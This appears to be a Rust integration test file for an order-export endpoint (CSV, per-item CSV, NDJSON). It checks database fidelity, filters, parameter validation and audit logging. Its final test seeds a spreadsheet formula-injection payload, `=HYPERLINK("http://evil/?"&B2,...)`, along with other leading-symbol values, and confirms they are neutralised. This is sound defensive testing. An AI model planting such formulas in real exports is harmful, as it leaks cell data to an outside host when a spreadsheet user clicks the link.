//! The export formats (CSV, CSV per line item, NDJSON) against the database, the order list's
//! filters applied, bad parameters refused, every export audit-logged, and buyers' formulas
//! neutralised.

use diesel::{
    RunQueryDsl, sql_query,
    sql_types::{Jsonb, Nullable, Text},
};
use reqwest::{StatusCode, header};
use serde_json::Value;

use super::{
    NASTY_FIRST, NASTY_LAST, admin, cli_export, disposition, export, export_text, ids, ndjson,
    parse_csv, seeded, stored_raw,
};
use crate::helpers::{
    seed::{Seed, insert_account_with_orders},
    spawn_app,
};

#[derive(diesel::QueryableByName, Debug)]
struct Stored {
    #[diesel(sql_type = Text)]
    checkout_form_id: String,
    #[diesel(sql_type = Text)]
    status: String,
    #[diesel(sql_type = Nullable<Text>)]
    buyer_first_name: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    buyer_last_name: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    buyer_email: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    total: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    bought: Option<String>,
    #[diesel(sql_type = Text)]
    login: String,
}

/// The answer is a 200 of `content_type`.
fn assert_ok_as(response: &reqwest::Response, content_type: &str) {
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()[header::CONTENT_TYPE], content_type);
}

#[tokio::test]
async fn csv_export_equals_the_database_even_with_nasty_content() {
    let (app, client) = seeded().await;
    let response = export(&app, &client, "format=csv").await;
    assert_ok_as(&response, "text/csv; charset=utf-8");
    let disposition = disposition(&response);
    assert!(
        disposition.starts_with("attachment; filename=\"allegro-orders-all-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let rows = parse_csv(&response.bytes().await.unwrap());
    // The merged-away order is left out, and the rest come in the list's default order
    // (newest purchase first).
    assert_eq!(ids(&rows), ["a-2", "b-1", "a-1"]);

    let stored: Vec<Stored> = sql_query(
        "SELECT checkout_form_id, o.status, buyer_first_name, buyer_last_name, buyer_email, \
         total_amount::text AS total, \
         to_char(bought_at AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"') AS bought, \
         a.login FROM orders o JOIN allegro_accounts a ON a.id = o.account_id \
         WHERE merged_into IS NULL ORDER BY o.bought_at DESC, o.id DESC",
    )
    .load(&mut app.db.connect())
    .unwrap();
    assert_eq!(stored.len(), rows.len());
    for (row, db) in rows.iter().zip(&stored) {
        assert_eq!(row["order_id"], db.checkout_form_id);
        assert_eq!(row["account"], db.login);
        assert_eq!(row["status"], db.status);
        assert_eq!(
            row["buyer_first_name"],
            db.buyer_first_name.clone().unwrap()
        );
        assert_eq!(row["buyer_last_name"], db.buyer_last_name.clone().unwrap());
        assert_eq!(row["buyer_email"], db.buyer_email.clone().unwrap());
        assert_eq!(row["total_amount"], db.total.clone().unwrap());
        assert_eq!(row["bought_at_utc"], db.bought.clone().unwrap());
    }
    assert_eq!(rows[2]["buyer_first_name"], NASTY_FIRST);
    assert_eq!(rows[2]["buyer_last_name"], NASTY_LAST);
    assert_eq!(rows[2]["total_amount"], "1234.50");
    assert_eq!(rows[2]["bought_at_local"], "2026-11-01 11:00");
    assert_eq!(rows[0]["bought_at_local"], "2026-11-03 00:30");
    assert_eq!(rows[1]["currency"], "EUR");
}

#[tokio::test]
async fn csv_items_has_one_row_per_line_item() {
    let (app, client) = seeded().await;
    let response = export(&app, &client, "format=csv-items&account=sklep_a").await;
    assert_eq!(response.status(), StatusCode::OK);
    let disposition = disposition(&response);
    assert!(
        disposition.contains("allegro-orders-sklep_a-"),
        "{disposition}"
    );
    let rows = parse_csv(&response.bytes().await.unwrap());
    let items: Vec<(&str, &str, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["order_id"].as_str(),
                r["offer_name"].as_str(),
                r["quantity"].as_str(),
                r["price"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        items,
        [
            ("a-2", "Talerz", "1", "0.05"),
            ("a-2", "Miska", "1", "0.05"),
            ("a-1", "Kubek „Łódź”, 330 ml", "2", "617.25"),
        ]
    );
    assert!(rows.iter().all(|r| r["account"] == "sklep_a"));
    assert_eq!(rows[1]["order_total_amount"], "0.10");
}

#[tokio::test]
async fn ndjson_lines_equal_the_stored_json_and_merged_orders_follow_the_filter() {
    let (app, client) = seeded().await;
    let response = export(&app, &client, "format=ndjson").await;
    assert_ok_as(&response, "application/x-ndjson");
    let body = response.text().await.unwrap();
    assert_eq!(body.lines().count(), 3);
    assert_eq!(ndjson(&body), stored_raw(&app, false));

    let with_merged = export_text(&app, &client, "format=ndjson&merged=1").await;
    assert_eq!(ndjson(&with_merged), stored_raw(&app, true));
}

#[tokio::test]
async fn filters_apply_to_the_export() {
    let (app, client) = seeded().await;
    for (query, expected) in [
        ("status=CANCELLED", vec!["a-2"]),
        ("currency=eur", vec!["b-1"]),
        ("bought_from=2026-11-03&bought_to=2026-11-03", vec!["a-2"]),
        ("min_total=1000", vec!["a-1"]),
        ("q=zofia", vec!["a-1"]),
        ("merged=1&account=sklep_a", vec!["a-2", "a-3", "a-1"]),
        // The list's sort orders the rows (by total: the PLN orders, then the EUR one, never
        // ranked against each other); paging and unknown parameters are ignored.
        (
            "sort=total_desc&cursor=zzz&page_size=5&utm=1",
            vec!["a-1", "a-2", "b-1"],
        ),
    ] {
        let response = export(&app, &client, &format!("format=csv&{query}")).await;
        assert_eq!(response.status(), StatusCode::OK, "{query}");
        let rows = parse_csv(&response.bytes().await.unwrap());
        assert_eq!(ids(&rows), expected, "{query}");
    }
    let response = export(&app, &client, "format=csv&status=CANCELLED").await;
    let disposition = disposition(&response);
    assert!(
        disposition.contains("allegro-orders-all-status-CANCELLED-"),
        "{disposition}"
    );
}

#[tokio::test]
async fn bad_formats_and_filters_are_a_400_naming_the_parameter() {
    let (app, client) = seeded().await;
    for (query, parameter) in [
        ("", "format"),
        ("format=xlsx", "format"),
        ("format=csv&status=SHIPPED", "status"),
        ("format=csv&bought_from=2026-13-40", "bought_from"),
        ("format=csv&min_total=abc", "min_total"),
        ("format=%ZZ%&&=&status", "format"),
        ("format=csv&dialect=xls", "dialect"),
        ("format=csv-items&dialect=excel%3B", "dialect"),
        ("format=ndjson&dialect=excel", "dialect"),
        ("format=csv&dialect=excel&sort=price_desc", "sort"),
    ] {
        let response = export(&app, &client, query).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{query}");
        let body = response.text().await.unwrap();
        assert!(body.contains(&format!("({parameter}):")), "{query}: {body}");
    }
    // Signed out: to the login page.
    let response = app
        .get_with(&crate::helpers::new_client(), "/orders/export?format=csv")
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn exports_are_audit_logged_with_their_row_count() {
    let (app, client) = seeded().await;
    let response = export(&app, &client, "format=csv&status=READY_FOR_PROCESSING").await;
    response.bytes().await.unwrap();
    #[derive(diesel::QueryableByName)]
    struct Entry {
        #[diesel(sql_type = Nullable<Text>)]
        actor_email: Option<String>,
        #[diesel(sql_type = Jsonb)]
        details: Value,
    }
    let entries: Vec<Entry> =
        sql_query("SELECT actor_email, details FROM audit_log WHERE action = 'orders_exported'")
            .load(&mut app.db.connect())
            .unwrap();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].actor_email.as_deref(), Some("root@example.com"));
    let d = &entries[0].details;
    assert_eq!(d["format"], "csv");
    assert_eq!(d["filters"]["status"], "READY_FOR_PROCESSING");
    assert_eq!(d["orders"], 2);
    assert_eq!(d["completed"], true);
}

/// A buyer-typed formula, as a spreadsheet would run it.
const FORMULA: &str = "=HYPERLINK(\"http://evil/?\"&B2,\"x\")";

#[tokio::test]
async fn formulas_typed_by_buyers_are_neutralised_in_every_csv_and_amounts_stay_numbers() {
    let app = spawn_app().await;
    insert_account_with_orders(
        &mut app.db.connect(),
        "sklep_a",
        &[Seed {
            id: "f-1",
            first_name: FORMULA,
            last_name: "@SUM(1+1)",
            email: "+48600100200",
            total: "-12.50",
            items: &[("-1+1 kubek", 1, "-12.50")],
            ..Seed::default()
        }],
    );
    let client = admin(&app).await;
    // The first row of the web export and of the CLI's, in `format`.
    let first_rows = |format: &'static str| {
        let (app, client) = (&app, &client);
        async move {
            let web = export(app, client, &format!("format={format}")).await;
            let web = parse_csv(&web.bytes().await.unwrap());
            let cli = parse_csv(&cli_export(app, &["--format", format]).stdout);
            [web[0].clone(), cli[0].clone()]
        }
    };
    for row in first_rows("csv").await {
        assert_eq!(row["buyer_first_name"], format!("'{FORMULA}"));
        assert_eq!(row["buyer_last_name"], "'@SUM(1+1)");
        assert_eq!(row["buyer_email"], "'+48600100200");
        assert_eq!(row["total_amount"], "-12.50");
    }
    for row in first_rows("csv-items").await {
        assert_eq!(row["offer_name"], "'-1+1 kubek");
        assert_eq!(row["buyer_email"], "'+48600100200");
        assert_eq!(row["price"], "-12.50");
        assert_eq!(row["order_total_amount"], "-12.50");
    }
}
